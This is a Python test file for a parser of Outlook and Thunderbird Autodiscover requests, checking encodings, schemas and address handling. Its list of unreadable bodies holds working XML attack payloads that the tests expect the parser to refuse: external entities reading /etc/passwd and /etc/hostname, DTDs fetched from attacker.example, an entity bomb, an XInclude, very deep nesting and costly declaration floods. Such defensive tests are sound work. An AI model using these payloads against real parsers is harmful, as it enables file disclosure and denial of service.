from __future__ import annotations

import codecs
import contextlib
from xml.sax.saxutils import escape

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from autoconfig.errors import RequestInvalid
from autoconfig.formats.microsoft_request import Schema, read_request
from autoconfig.mail.address import EmailAddress
from autoconfig.mail.domain import Domain

SPACE = "http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"
OUTLOOK = "http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a"
MOBILESYNC = "http://schemas.microsoft.com/exchange/autodiscover/mobilesync/responseschema/2006"

DECLARATION = '<?xml version="1.0" encoding="utf-8"?>\n'


def request_text(
    address: str = "taro@example.jp", schema: str = OUTLOOK, space: str | None = SPACE, declaration: str = DECLARATION
) -> str:
    """A request as Thunderbird and Outlook send it."""
    namespace = f' xmlns="{space}"' if space else ""
    return (
        f"{declaration}<Autodiscover{namespace}>\n  <Request>\n"
        f"    <EMailAddress>{address}</EMailAddress>\n"
        f"    <AcceptableResponseSchema>{schema}</AcceptableResponseSchema>\n"
        "  </Request>\n</Autodiscover>\n"
    )


TEXT = request_text()
UTF16 = request_text(declaration='<?xml version="1.0" encoding="utf-16"?>')
SHIFT_JIS = request_text("太郎@example.jp", declaration='<?xml version="1.0" encoding="Shift_JIS"?>')

READABLE: dict[str, bytes] = {
    "Thunderbird": TEXT.encode(),
    "without declaration": request_text(declaration="").encode(),
    "on one line": TEXT.replace("\n", "").encode(),
    "CR LF": TEXT.replace("\n", "\r\n").encode(),
    "namespace of https, as in Microsoft's pages": request_text(space=SPACE.replace("http:", "https:")).encode(),
    "schema of https, as in Microsoft's pages": request_text(schema=OUTLOOK.replace("http:", "https:")).encode(),
    "schema without the letter": request_text(schema=OUTLOOK[:-1]).encode(),
    "schema in upper case": request_text(schema=OUTLOOK.upper()).encode(),
    "no schema": TEXT.replace(f"<AcceptableResponseSchema>{OUTLOOK}</AcceptableResponseSchema>", "").encode(),
    "empty schema": request_text(schema="").encode(),
    "wrong namespace": request_text(space="urn:x").encode(),
    "namespace of the answer": request_text(space=OUTLOOK).encode(),
    "no namespace": request_text(space=None).encode(),
    "prefixes": TEXT.replace("xmlns=", "xmlns:a=")
    .replace("</", "</a:")
    .replace("<A", "<a:A")
    .replace("<R", "<a:R")
    .replace("<E", "<a:E")
    .encode(),
    "100 deep": TEXT.replace("</Request>", f"</Request>{'<a>' * 100}{'</a>' * 100}").encode(),
    "attributes": TEXT.replace("<Request>", '<Request xmlns:xsi="urn:x" xsi:nil="0" a="b">').encode(),
    "LegacyDN beside the address": TEXT.replace("<EMail", "<LegacyDN>/o=x/cn=y</LegacyDN><EMail").encode(),
    "white space around the address": request_text("\n  taro@example.jp\t").encode(),
    "white space before the declaration": b"\r\n\t  " + TEXT.encode(),
    "comments": TEXT.replace("taro@", "ta<!-- @ -->ro@").replace("<Request>", "<!-- a --><Request>").encode(),
    "processing instructions": TEXT.replace("taro@", "ta<?a b?>ro@").replace("<Request>", "<?a?><Request>").encode(),
    "CDATA": request_text("<![CDATA[taro]]>@example.jp").encode(),
    "character references": request_text("&#116;aro&#x40;example.jp").encode(),
    "first address of two": TEXT.replace("  </Request>", "<EMailAddress>b@b.example</EMailAddress></Request>").encode(),
    "BOM": codecs.BOM_UTF8 + TEXT.encode(),
    "BOM and white space": codecs.BOM_UTF8 + b"\r\n" + TEXT.encode(),
    "UTF-16": UTF16.encode("utf-16"),
    "UTF-16, big-endian": codecs.BOM_UTF16_BE + UTF16.encode("utf-16-be"),
    "UTF-16 without BOM": UTF16.encode("utf-16-le"),
    "UTF-16 without BOM, big-endian": UTF16.encode("utf-16-be"),
    "UTF-16 with white space": codecs.BOM_UTF16_LE + f"\r\n {UTF16}".encode("utf-16-le"),
    "UTF-16 without declaration": request_text(declaration="").encode("utf-16"),
    "UTF-16 that says UTF-8": TEXT.encode("utf-16"),
    "UTF-8 that says UTF-16": UTF16.encode(),
    "UTF-8 that says UTF-16LE": UTF16.replace("utf-16", "UTF-16LE").encode(),
    "UTF-8 with BOM that says UTF-16": codecs.BOM_UTF8 + UTF16.replace('"', "'", 4).encode(),
    "ISO 8859-1": request_text(declaration='<?xml version="1.0" encoding="iso-8859-1"?>').encode("latin-1"),
}


@pytest.mark.parametrize("body", READABLE.values(), ids=READABLE)
def test_readable(body: bytes) -> None:
    """Whatever else clients do to it, a request for Outlook's schema gives the address."""
    request = read_request(body)

    assert (request.schema, str(request.address)) == (Schema.OUTLOOK, "taro@example.jp")


SCHEMAS = {
    "Outlook": (OUTLOOK, Schema.OUTLOOK),
    "MobileSync": (MOBILESYNC, Schema.MOBILESYNC),
    "MobileSync with https": (MOBILESYNC.replace("http:", "https:"), Schema.MOBILESYNC),
    "unknown": ("http://schemas.microsoft.com/exchange/2010/Autodiscover", Schema.UNKNOWN),
    "nonsense": ("outlook", Schema.UNKNOWN),
}


@pytest.mark.parametrize(("name", "schema"), SCHEMAS.values(), ids=SCHEMAS)
def test_schema(name: str, schema: Schema) -> None:
    """The schema that the client can read decides, not the request's own namespace."""
    assert schema is read_request(request_text(schema=name).encode()).schema


ADDRESSES = {
    "IDN": ("太郎@日本語.example", "太郎", "xn--wgv71a119e.example"),
    "IDN in A-labels": ("taro@xn--wgv71a119e.example", "taro", "xn--wgv71a119e.example"),
    "full-width domain": ("taro@ｅｘａｍｐｌｅ．ｃｏ．ｊｐ", "taro", "example.co.jp"),
    "ideographic full stop": ("taro@日本語。example", "taro", "xn--wgv71a119e.example"),
    "upper case": ("Taro@EXAMPLE.JP", "Taro", "example.jp"),
    "two dots": ("a..b.@docomo.example", "a..b.", "docomo.example"),
    "plus": ("a+b@example.jp", "a+b", "example.jp"),
    "markup": ("a&amp;b&lt;c&gt;@example.jp", "a&b<c>", "example.jp"),
    "ideographic space around it": ("\u3000taro@example.jp\u3000", "taro", "example.jp"),
    "outside the BMP": ("𠮷野@example.jp", "𠮷野", "example.jp"),
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(("sent", "local", "domain"), ADDRESSES.values(), ids=ADDRESSES)
def test_address(encoding: str, sent: str, local: str, domain: str) -> None:
    """Addresses arrive as they are meant, with the domain in A-labels."""
    body = request_text(sent).encode(encoding)

    assert EmailAddress(local, Domain(domain)) == read_request(body).address


def test_declared_encoding() -> None:
    """The declared encoding is the body's."""
    assert read_request(SHIFT_JIS.encode("shift_jis")).address.local == "太郎"


def doctype(text: str, subset: str = "") -> bytes:
    """A request with a document type."""
    return text.replace("<Autodiscover", f"<!DOCTYPE Autodiscover {subset}><Autodiscover", 1).encode()


def nested(depth: int) -> bytes:
    """A request with an address, and with elements within elements beside it."""
    return TEXT.replace("</Request>", f"</Request>{'<a>' * depth}{'</a>' * depth}").encode()


ENTITY = "&e{};"
BOMB = "".join(f'<!ENTITY e{n + 1} "{10 * ENTITY.format(n)}">' for n in range(9))

UNREADABLE: dict[str, bytes] = {
    "empty": b"",
    "white space": b" \r\n",
    "BOM": codecs.BOM_UTF8,
    "UTF-16 BOM": codecs.BOM_UTF16_LE,
    "half a UTF-16 character": codecs.BOM_UTF16_LE + b"<",
    "form": b"EMailAddress=taro%40example.jp",
    "JSON": b'{"EMailAddress": "taro@example.jp"}',
    "cut off": TEXT.encode()[:-20],
    "two roots": TEXT.encode() + TEXT.replace(DECLARATION, "").encode(),
    "nothing but a comment": b"<!-- Autodiscover -->",
    "another root": b"<Envelope><EMailAddress>taro@example.jp</EMailAddress></Envelope>",
    "root in lower case": TEXT.replace("Autodiscover", "autodiscover").encode(),
    "no address": TEXT.replace("EMailAddress", "Other").encode(),
    "empty address": request_text("").encode(),
    "only a LegacyDN": TEXT.replace("EMailAddress", "LegacyDN").replace("taro@example.jp", "/o=x/cn=taro").encode(),
    "no domain": request_text("taro").encode(),
    "bad domain": request_text("taro@exa mple.jp").encode(),
    "65 octets before the @": request_text(f"{'a' * 65}@example.jp").encode(),
    "unescaped markup": request_text("a&b@example.jp").encode(),
    "element in the address": request_text("taro<b/>@example.jp").encode(),
    "not UTF-8": TEXT.replace("taro", "t\xe4ro").encode("latin-1"),
    "control character": TEXT.replace("taro", "ta\x01ro").encode(),
    "control character, referenced": request_text("ta&#1;ro@example.jp").encode(),
    "line feed in the address, referenced": request_text("ta&#10;ro@example.jp").encode(),
    "unknown encoding": TEXT.replace("utf-8", "klingon").encode(),
    "undefined entity": request_text("taro&at;example.jp").encode(),
    "DOCTYPE": doctype(TEXT),
    "DOCTYPE that names a file": doctype(TEXT, 'SYSTEM "file:///etc/passwd"'),
    "DOCTYPE that names a host": doctype(TEXT, 'PUBLIC "-//x//y" "http://attacker.example/x.dtd"'),
    "DOCTYPE with an empty subset": doctype(TEXT, "[]"),
    "internal entity": doctype(request_text("&who;@example.jp"), '[<!ENTITY who "taro">]'),
    "external entity": doctype(request_text("&f;@example.jp"), '[<!ENTITY f SYSTEM "file:///etc/hostname">]'),
    "external parameter entity": doctype(TEXT, '[<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]'),
    "entity bomb": doctype(request_text("&e9;@example.jp"), f'[<!ENTITY e0 "aaaaaaaaaa">{BOMB}]'),
    "300 deep": nested(300),
    "3000 deep": nested(3000),
    "3000 deep, never closed": ("<Autodiscover>" + "<a>" * 3000).encode(),
    "XInclude": request_text('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/hostname"/>').encode(),
}


@pytest.mark.parametrize("body", UNREADABLE.values(), ids=UNREADABLE)
def test_unreadable(body: bytes) -> None:
    """What is no request, has no address, or might attack a parser, is refused as invalid."""
    with pytest.raises(RequestInvalid):
        read_request(body)


def test_reason() -> None:
    """The sentence says what is wrong; what came is repeated only where it was to be an address."""
    with pytest.raises(RequestInvalid, match=r"^the body has a DOCTYPE$"):
        read_request(doctype(TEXT))
    with pytest.raises(RequestInvalid, match=r"^the root element is not Autodiscover$"):
        read_request(b"<secret/>")
    with pytest.raises(RequestInvalid, match=r"^the body is not XML$"):
        read_request(b"secret")
    with pytest.raises(RequestInvalid, match=r"^'taro' is not a mail address"):
        read_request(request_text("taro").encode())


def refused_or_read(body: bytes) -> None:
    """Call it; nothing but an answer or `RequestInvalid` comes back."""
    with contextlib.suppress(RequestInvalid):
        read_request(body)


@given(st.binary(max_size=300))
@example(b"\xff\xfe\x00\xd8")
@example(b"<\x00\x00")
def test_any_bytes(body: bytes) -> None:
    """No bytes at all make anything worse than an invalid request."""
    refused_or_read(body)


@given(
    st.sampled_from(sorted([*READABLE.values(), *UNREADABLE.values()], key=len)[:-2]),
    st.lists(st.tuples(st.integers(0, 700), st.integers(0, 8), st.binary(max_size=4)), min_size=1, max_size=4),
)
def test_mutated(body: bytes, edits: list[tuple[int, int, bytes]]) -> None:
    """No damage to a real request makes anything worse than an invalid request."""
    for start, length, new in edits:
        body = body[:start] + new + body[start + length :]
    refused_or_read(body)


@given(st.text(), st.text(), st.sampled_from(["utf-8", "utf-16", "utf-16-le", "utf-16-be"]))
def test_any_texts(address: str, schema: str, encoding: str) -> None:
    """No text in the place of the address or the schema makes anything worse than an invalid request."""
    refused_or_read(request_text(escape(address), escape(schema)).encode(encoding, "replace"))


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"<?xml " * 2700 + b'encoding="utf-16' * 1000, id="declarations of UTF-16"),
        pytest.param(b"<?xml " * 10900, id="declarations"),
        pytest.param(("<?xml " * 5000).encode("utf-16"), id="declarations in UTF-16"),
    ],
)
def test_costly_bodies(body: bytes) -> None:
    """A body made to keep a search busy is refused as any other; with a search that starts again it takes minutes."""
    with pytest.raises(RequestInvalid):
        read_request(body)
